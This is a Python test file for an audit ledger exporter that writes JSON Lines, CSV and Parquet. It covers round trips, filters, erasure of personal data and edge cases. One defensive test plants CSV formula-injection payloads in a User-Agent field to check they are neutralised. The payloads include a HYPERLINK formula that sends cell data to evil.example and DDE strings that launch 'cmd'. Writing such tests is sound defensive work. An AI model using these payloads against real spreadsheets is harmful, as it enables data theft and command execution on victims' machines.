"""Ledger exports as JSON Lines, CSV and Parquet: round trips, filters, erasure, edges."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import msgspec
import pyarrow.parquet as pq
import pytest

from audit.export import FORMULA_STARTS, parquet_schema, write_export
from audit.rows import COLUMNS, ERASED, ExportFilter, LedgerRow, flatten
from schemas import encode
from schemas.registry import BY_NAME, personal_paths
from tests.factories import PAYLOADS, T0, sample_event

RECORDED = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
PERSONAL_VALUES = (
    "203.0.113.7",
    "Mozilla/5.0",
    "Berlin",
    "dev-1",
    "52.52",
    "13.405",
    "+4915112345678",
    "198.51.100.23",
)
"""Every personal value the sample events carry (tests/factories.py)."""


def event_json(type_name: str, **kwargs: Any) -> dict[str, Any]:
    decoded: dict[str, Any] = msgspec.json.decode(encode(sample_event(type_name, **kwargs)))
    return decoded


def every_type() -> list[LedgerRow]:
    return [
        LedgerRow(sequence=i, recorded_at=RECORDED + timedelta(seconds=i), event=event_json(name))
        for i, name in enumerate(PAYLOADS)
    ]


def erased(row: LedgerRow, *, leave_values: bool = False) -> LedgerRow:
    """``row`` after its subject's key was destroyed: every present personal path erased.

    With ``leave_values`` the event still holds the clear values (a careless caller), to
    prove the writers apply the mark themselves.
    """
    flat = flatten(row)
    paths = tuple(p for p in personal_paths(BY_NAME[row.event["type"]]) if flat.get(p) is not None)
    event = json.loads(json.dumps(row.event))
    if not leave_values:
        for path in paths:
            *parents, leaf = path.split(".")
            node = event
            for name in parents:
                node = node[name]
            node[leaf] = ERASED
    return LedgerRow(row.sequence, row.recorded_at, event, paths)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def csv_value(name: str, cell: str) -> Any:
    """A CSV cell back as the JSON value it was written from."""
    if cell == "":
        return None
    cell = cell.removeprefix("'")  # written before a formula start (and an apostrophe)
    if COLUMNS[name] in ("string", "timestamp") or cell == ERASED:
        return cell
    return json.loads(cell)


def read_csv(path: Path) -> tuple[list[str], list[dict[str, Any]]]:
    with path.open(encoding="utf-8", newline="") as source:
        reader = csv.reader(source)
        header = next(reader)
        rows = [
            {n: csv_value(n, c) for n, c in zip(header, cells, strict=True)} for cells in reader
        ]
    return header, rows


def as_parquet(name: str, value: Any) -> Any:
    """What a flattened value reads back as from Parquet."""
    kind = COLUMNS[name]
    if value is None or (value == ERASED and kind not in ("string", "json")):
        return None
    if kind == "timestamp":
        return datetime.fromisoformat(value)
    if kind == "json" and name != "erased":
        return json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return value


# -- round trips ------------------------------------------------------------------------


def test_jsonl_round_trips_every_event_type(tmp_path: Path) -> None:
    rows = every_type()
    out = tmp_path / "ledger.jsonl"

    assert write_export(rows, fmt="jsonl", out=out) == len(PAYLOADS)

    records = read_jsonl(out)
    assert [r["sequence"] for r in records] == [row.sequence for row in rows]
    assert [r["event"] for r in records] == [row.event for row in rows]
    assert records[1]["recorded_at"] == "2026-11-02T10:00:01Z"
    assert all(r["erased"] == [] for r in records)


def test_csv_round_trips_with_one_stable_column_set(tmp_path: Path) -> None:
    rows = every_type()
    out = tmp_path / "ledger.csv"

    assert write_export(rows, fmt="csv", out=out) == len(rows)

    header, read = read_csv(out)
    assert header == list(COLUMNS)
    for row, back in zip(rows, read, strict=True):
        expected = flatten(row)
        assert {k: v for k, v in back.items() if v is not None} == {
            k: v for k, v in expected.items() if v not in (None, [])
        } | {"erased": []}
    failed = read[list(PAYLOADS).index("mfa.verification.failed")]
    assert failed["data.client.ip"] == "203.0.113.7"
    assert failed["data.client.geo.latitude"] == 52.52
    assert failed["time"] == "2026-11-02T09:30:00Z"
    risk = read[list(PAYLOADS).index("risk.detected")]
    assert risk["data.evidence"]["speed_kmh"] == 24_000.5

    single = tmp_path / "one.csv"
    write_export(rows[-1:], fmt="csv", out=single)
    assert read_csv(single)[0] == header


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
    ],
)
def test_a_csv_export_runs_no_formula_an_attacker_planted(tmp_path: Path, planted: str) -> None:
    """A User-Agent (any string a client sends) exported to CSV and opened in a
    spreadsheet must not run: the cell starts with an apostrophe, and reads back as sent."""
    row = every_type()[list(PAYLOADS).index("mfa.verification.failed")]
    event = json.loads(json.dumps(row.event))
    event["data"]["client"]["user_agent"] = planted
    event["data"]["client"]["geo"]["latitude"] = -33.87  # a negative number stays a number
    out = tmp_path / "planted.csv"
    write_export([LedgerRow(row.sequence, row.recorded_at, event)], fmt="csv", out=out)

    with out.open(encoding="utf-8", newline="") as source:
        header, cells = list(csv.reader(source))
    written = dict(zip(header, cells, strict=True))
    assert written["data.client.user_agent"] == "'" + planted
    assert written["data.client.geo.latitude"] == "-33.87"
    assert not any(c.startswith(FORMULA_STARTS) for c in cells if not _number(c))
    assert read_csv(out)[1][0]["data.client.user_agent"] == planted


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_parquet_round_trips_with_typed_columns(tmp_path: Path) -> None:
    rows = every_type()
    out = tmp_path / "ledger.parquet"

    assert write_export(rows, fmt="parquet", out=out) == len(rows)

    table = pq.read_table(out)
    assert table.schema.equals(parquet_schema())
    assert str(table.schema.field("time").type) == "timestamp[us, tz=UTC]"
    assert str(table.schema.field("data.client.geo.latitude").type) == "double"
    for row, back in zip(rows, table.to_pylist(), strict=True):
        expected = {name: as_parquet(name, value) for name, value in flatten(row).items()}
        assert {k: v for k, v in back.items() if v is not None} == {
            k: v for k, v in expected.items() if v is not None
        }
    assert table.column("time")[0].as_py() == T0
    assert table.column("sequence").to_pylist() == list(range(len(rows)))


def test_parquet_writes_row_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("audit.export.PARQUET_ROW_GROUP", 10)
    rows = every_type()
    out = tmp_path / "groups.parquet"

    write_export(rows, fmt="parquet", out=out)

    assert pq.ParquetFile(out).metadata.num_row_groups == -(-len(rows) // 10)  # ceil
    assert pq.read_table(out).num_rows == len(rows)


def test_unknown_fields_are_kept_in_extra(tmp_path: Path) -> None:
    event = event_json("mfa.verification.failed")
    event["data"]["future_field"] = {"depth": 2}
    event["newattribute"] = "x"
    out = tmp_path / "extra.csv"

    write_export([LedgerRow(0, RECORDED, event)], fmt="csv", out=out)

    assert read_csv(out)[1][0]["extra"] == {"data.future_field.depth": 2, "newattribute": "x"}


# -- filters ----------------------------------------------------------------------------


def timed_rows() -> list[LedgerRow]:
    specs = [
        ("acme", "u-1", "mfa.verification.failed", 0),
        ("acme", "u-2", "mfa.verification.succeeded", 1),
        ("globex", "u-1", "mfa.verification.failed", 2),
        ("acme", "u-1", "lockout.applied", 3),
    ]
    return [
        LedgerRow(
            i,
            RECORDED,
            event_json(kind, tenant=tenant, subject=subject, now=T0 + timedelta(hours=hours)),
        )
        for i, (tenant, subject, kind, hours) in enumerate(specs)
    ]


@pytest.mark.parametrize(
    ("where", "expected"),
    [
        (ExportFilter(), [0, 1, 2, 3]),
        (ExportFilter(since=T0 + timedelta(hours=1)), [1, 2, 3]),
        (ExportFilter(until=T0 + timedelta(hours=1)), [0]),
        (ExportFilter(since=T0 + timedelta(hours=1), until=T0 + timedelta(hours=3)), [1, 2]),
        (ExportFilter(since=T0 + timedelta(hours=1, microseconds=1)), [2, 3]),
        (ExportFilter(tenant="acme"), [0, 1, 3]),
        (ExportFilter(subject="u-1"), [0, 2, 3]),
        (ExportFilter(tenant="acme", subject="u-1"), [0, 3]),
        (ExportFilter(types=frozenset({"mfa.verification.failed"})), [0, 2]),
        (ExportFilter(types=frozenset({"lockout.applied", "mfa.verification.succeeded"})), [1, 3]),
        (ExportFilter(tenant="initech"), []),
    ],
)
def test_filters_select_rows(tmp_path: Path, where: ExportFilter, expected: list[int]) -> None:
    rows = timed_rows()
    assert [row.sequence for row in rows if where.matches(row)] == expected

    out = tmp_path / "filtered.jsonl"
    assert write_export(rows, fmt="jsonl", out=out, where=where) == len(expected)
    assert [r["sequence"] for r in read_jsonl(out)] == expected


def test_filter_bounds_must_be_timezone_aware() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        ExportFilter(since=datetime(2026, 11, 2))  # naive: the misuse under test


def test_filter_compares_times_with_offsets() -> None:
    row = timed_rows()[0]
    plus_two = T0.astimezone(timezone(timedelta(hours=2)))
    assert ExportFilter(since=plus_two).matches(row)
    assert not ExportFilter(until=plus_two).matches(row)


# -- erasure ----------------------------------------------------------------------------


@pytest.mark.parametrize("leave_values", [False, True], ids=["marked", "clear-in-row"])
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "ocsf"])
def test_erased_values_never_leave_in_clear(tmp_path: Path, fmt: Any, leave_values: bool) -> None:
    rows = [erased(row, leave_values=leave_values) for row in every_type()]
    for row in rows:  # free text is not marked personal; keep the sample's city out of it
        if "summary" in row.event["data"]:
            row.event["data"]["summary"] = "Impossible travel"
    assert sum(bool(row.erased) for row in rows) > 15
    out = tmp_path / f"erased.{fmt}"

    write_export(rows, fmt=fmt, out=out)

    if fmt == "parquet":
        text = json.dumps(pq.read_table(out).to_pylist(), default=str)
    else:
        text = out.read_text(encoding="utf-8")
    for value in PERSONAL_VALUES:
        assert value not in text
    assert ERASED in text


def test_jsonl_and_csv_mark_each_erased_path(tmp_path: Path) -> None:
    row = erased(LedgerRow(0, RECORDED, event_json("mfa.verification.failed")), leave_values=True)
    assert "data.client.ip" in row.erased

    write_export([row], fmt="jsonl", out=tmp_path / "e.jsonl")
    write_export([row], fmt="csv", out=tmp_path / "e.csv")
    write_export([row], fmt="parquet", out=tmp_path / "e.parquet")

    record = read_jsonl(tmp_path / "e.jsonl")[0]
    assert record["erased"] == list(row.erased)
    assert record["event"]["data"]["client"]["ip"] == ERASED
    assert record["event"]["data"]["client"]["geo"]["country"] == "DE"  # not personal
    cells = read_csv(tmp_path / "e.csv")[1][0]
    assert cells["erased"] == list(row.erased)
    assert all(cells[path] == ERASED for path in row.erased)
    back = pq.read_table(tmp_path / "e.parquet").to_pylist()[0]
    assert back["erased"] == list(row.erased)
    assert back["data.client.ip"] == ERASED
    assert back["data.client.geo.latitude"] is None  # a typed column cannot hold the mark
    assert row.event["data"]["client"]["ip"] == "203.0.113.7"  # the caller's row is untouched


# -- edges ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "ocsf"])
def test_empty_input_writes_a_valid_empty_file(tmp_path: Path, fmt: Any) -> None:
    out = tmp_path / f"empty.{fmt}"

    assert write_export([], fmt=fmt, out=out) == 0

    if fmt == "csv":
        assert read_csv(out) == (list(COLUMNS), [])
    elif fmt == "parquet":
        table = pq.read_table(out)
        assert table.num_rows == 0
        assert table.schema.equals(parquet_schema())
    else:
        assert out.read_text(encoding="utf-8") == ""


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "ocsf"])
def test_failed_export_leaves_no_file(tmp_path: Path, fmt: Any) -> None:
    def failing() -> Iterator[LedgerRow]:
        yield from every_type()[:3]
        raise RuntimeError("database went away")

    out = tmp_path / f"broken.{fmt}"
    with pytest.raises(RuntimeError, match="went away"):
        write_export(failing(), fmt=fmt, out=out)
    assert list(tmp_path.iterdir()) == []


def test_export_replaces_an_existing_file(tmp_path: Path) -> None:
    out = tmp_path / "ledger.jsonl"
    out.write_text("old\n", encoding="utf-8")

    write_export(every_type()[:2], fmt="jsonl", out=out)

    assert len(read_jsonl(out)) == 2


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format 'xml'"):
        write_export([], fmt="xml", out=tmp_path / "x.xml")  # type: ignore[arg-type]
    assert list(tmp_path.iterdir()) == []


def test_naive_recorded_at_is_refused(tmp_path: Path) -> None:
    row = LedgerRow(0, datetime(2026, 11, 2), event_json("mfa.push.expired"))  # naive
    with pytest.raises(ValueError, match="timezone-aware"):
        write_export([row], fmt="jsonl", out=tmp_path / "naive.jsonl")
